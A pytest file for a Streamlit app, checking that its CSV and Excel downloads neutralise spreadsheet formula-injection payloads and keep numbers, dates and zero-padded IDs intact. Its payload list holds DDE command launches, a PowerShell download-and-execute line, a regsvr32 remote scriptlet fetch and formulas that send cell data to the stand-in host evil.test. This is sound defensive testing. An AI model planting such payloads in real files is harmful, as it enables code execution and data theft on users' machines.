"""Every table's downloads (ui/tables.py show_table: CSV and .xlsx, analysis/exports.py) and the
HTML report pack against a corpus of spreadsheet formula-injection payloads (OWASP's CSV
injection list and its variants): no cell a spreadsheet would run, while numbers stay numbers,
dates stay dates and '00123' keeps its zeros."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from analysis.exports import neutralise, safe_csv, safe_frame, safe_xlsx
from ui.tables import as_shown

# (payload, what the cell holds once neutralised)
CORPUS = [
    '=HYPERLINK("http://evil.test","x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.test/x)'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.test/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTDATA("http://evil.test/x.csv")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "A1:B2")',
    '=IMAGE("http://evil.test/t.png")',
    '=WEBSERVICE("http://evil.test/?"&A1)',
    '=INFO("system")',
    "=2+5+cmd|' /C calc'!A0",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.test/x.sct scrobj.dll'!''",
    "+cmd|' /C calc'!A0",
    "+1+1",
    '+HYPERLINK("http://evil.test")',
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    '-HYPERLINK("http://evil.test")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.test")',
    "\t=1+1",
    "\r=1+1",
    "\tcmd|' /C calc'!A0",
    "\r\n=1+1",
    " =1+1",
    '   =HYPERLINK("http://evil.test")',
    "\n=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width ＝
    "\uff0b1+1",  # full-width ＋
    "\uff0d1+1",  # full-width －
    "\uff20SUM(1+1)",  # full-width ＠
    "\u3000=1+1",  # ideographic space, then =
    '="=1+1"',
    "=0x41",
]


def test_the_corpus_is_big_enough():
    assert len(CORPUS) >= 30 and len(set(CORPUS)) == len(CORPUS)


@pytest.mark.parametrize("payload", CORPUS)
def test_neutralise_prefixes_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise(neutralise(payload)) == "'" + payload  # once only


@pytest.mark.parametrize("kept", ["00123", "2026-01-05", "Sales", "a=b", "me@acme.test", "1+1", "x-ray", "", "'quoted"])
def test_ordinary_text_is_left_as_it_is(kept):
    assert neutralise(kept) == kept


def frame() -> pd.DataFrame:
    n = len(CORPUS)
    return pd.DataFrame(
        {
            "department": CORPUS,
            "employee_id": ["00123"] * n,
            "licensed": list(range(n)),
            "change": [-2.5] * n,
            "day": [date(2026, 1, 5)] * n,
            "loaded_at": pd.to_datetime(["2026-01-05 07:20"] * n),
            '=HYPERLINK("http://evil.test")': ["x"] * n,
        }
    )


def test_the_csv_neutralises_every_payload_and_keeps_numbers_ids_and_dates():
    rows = list(csv.reader(io.StringIO(safe_csv(frame()).decode("utf-8-sig"), newline="")))
    assert rows[0][-1] == '\'=HYPERLINK("http://evil.test")'
    for row, payload in zip(rows[1:], CORPUS, strict=True):
        assert row[0] == "'" + payload
        assert row[1:6] == ["00123", row[2], "-2.5", "2026-01-05", "2026-01-05 07:20:00"]
    assert [r[2] for r in rows[1:]] == [str(i) for i in range(len(CORPUS))]


def test_the_xlsx_types_every_cell_and_runs_no_formula():
    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx(frame())))
    sheet = book.active
    cells = list(sheet.iter_rows())
    assert cells[0][-1].value == '\'=HYPERLINK("http://evil.test")'
    for row, payload in zip(cells[1:], CORPUS, strict=True):
        name, ident, count, change, day, at, _ = row
        assert (name.value, name.data_type) == ("'" + payload, "s")  # text, whole, behind its apostrophe
        assert (ident.value, ident.data_type) == ("00123", "s")  # text: its zeros stay
        assert isinstance(count.value, int) and count.data_type == "n"
        assert change.value == -2.5 and change.data_type == "n"  # a negative number stays a number
        assert day.value == datetime(2026, 1, 5) and day.is_date and day.number_format == "yyyy-mm-dd"
        assert at.value == datetime(2026, 1, 5, 7, 20) and at.is_date
    assert not [c for row in cells for c in row if c.data_type == "f"]  # no formula anywhere
    # the workbook's own XML holds no formula element either
    with zipfile.ZipFile(io.BytesIO(safe_xlsx(frame()))) as parts:
        assert "<f>" not in parts.read("xl/worksheets/sheet1.xml").decode()


def test_the_downloads_carry_the_names_and_columns_the_table_shows():
    data = pd.DataFrame({"email": ["=1+1"], "role": ["admin"], "secret": ["x"], "created_at": [date(2026, 1, 5)]})
    shown = as_shown(data, {"email": "Email", "secret": None, "created_at": {"label": "Created"}}, None)
    assert list(shown.columns) == ["Email", "role", "Created"]
    assert list(as_shown(data, None, ["role", "email"]).columns) == ["role", "email"]


TABLES_APP = """
import pandas as pd
import streamlit as st
from ui.tables import show_table

table = pd.DataFrame({"a": ["=1+1", "00123"], "b": [1, 2]})
show_table(table, hide_index=True)
show_table(table, hide_index=True)  # the same table twice: the second pair takes the next key
with st.form("f"):
    show_table(table)  # no download button in a form (Streamlit refuses it)
    st.form_submit_button("Go")
"""


def test_every_table_outside_a_form_gets_a_csv_and_an_xlsx_button():
    at = AppTest.from_string(TABLES_APP)
    at.run()
    assert not at.exception
    buttons = at.get("download_button")
    assert [b.proto.label for b in buttons] == ["CSV", "Excel (.xlsx)", "CSV", "Excel (.xlsx)"]
    assert len({b.proto.id for b in buttons}) == 4
    assert all(b.proto.deferred_file_id for b in buttons)  # written when pressed, not on every run
    at.run()  # the same keys on a rerun
    assert not at.exception and len(at.get("download_button")) == 4


@pytest.fixture
def deferred(monkeypatch):
    """What each deferred download button registers (a table's CSV and .xlsx, ui/tables.py):
    file id -> (file name, the callable that writes the file when the button is pressed)."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    found: dict[str, tuple[str, object]] = {}
    register = MediaFileManager.add_deferred

    def recording(self, data_callable, mimetype, coordinates, file_name=None, element_id=""):
        file_id = register(self, data_callable, mimetype, coordinates, file_name=file_name, element_id=element_id)
        found[file_id] = (file_name, data_callable)
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", recording)
    return found


def test_a_table_downloads_what_it_shows_neutralised_and_named_for_its_columns(deferred):
    at = AppTest.from_string(
        "import pandas as pd\nfrom ui.tables import show_table\n"
        "show_table(pd.DataFrame({'KPI': ['=1+1'], 'id': ['00123'], 'n': [-2], 'hidden': ['x']}),"
        " column_config={'KPI': 'Key figure', 'hidden': None})\n"
    )
    at.run()
    assert not at.exception
    (csv_name, csv_file), (xlsx_name, xlsx_file) = [
        deferred[b.proto.deferred_file_id] for b in at.get("download_button")
    ]
    csv_data, xlsx_data = csv_file(), xlsx_file()  # as the button does when pressed
    assert (csv_name, xlsx_name) == ("key-figure-id-n.csv", "key-figure-id-n.xlsx")  # the names shown
    assert csv_data.decode("utf-8-sig") == "Key figure,id,n\r\n'=1+1,00123,-2\r\n"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
    assert list(sheet.iter_rows(values_only=True)) == [("Key figure", "id", "n"), ("'=1+1", "00123", -2)]


def test_a_markdown_table_downloads_too(deferred):
    at = AppTest.from_string(
        "import pandas as pd\nfrom ui.tables import markdown_table\n"
        "markdown_table(pd.DataFrame({'Where': ['@Sales'], 'Severity': ['high']}).set_index('Where'))\n"
    )
    at.run()
    assert not at.exception
    (name, csv_file), _ = [deferred[b.proto.deferred_file_id] for b in at.get("download_button")]
    assert name == "where-severity.csv"
    assert csv_file().decode("utf-8-sig") == "Where,Severity\r\n'@Sales,high\r\n"  # the index a column


@pytest.mark.parametrize(
    "column",
    [
        ["Sales", "00123", "", None, "x-ray"],  # nothing to neutralise: the column as it was
        ["Sales", " =1+1"],  # one payload among plain cells
        ["Sales", "\uff1d1+1"],  # full-width, NFKC to =
        ["Sales", "\u3000=1+1", None],
        [1, "=1+1", None],  # an object column of mixed values
        [1, 2.5, None],  # an object column with no text
        [None, None],
    ],
)
def test_safe_frame_neutralises_a_column_as_cell_by_cell(column):
    """safe_frame skips the Python call per cell when a column holds no cell that could run: the
    result is what neutralise gives cell by cell, for text and object columns alike."""
    for dtype in ("str", object):
        if dtype == "str" and any(v is not None and not isinstance(v, str) for v in column):
            continue
        values = pd.Series(column, dtype=dtype)
        shown = safe_frame(pd.DataFrame({"c": values}))["c"]
        pd.testing.assert_series_equal(shown, values.map(neutralise), check_names=False)
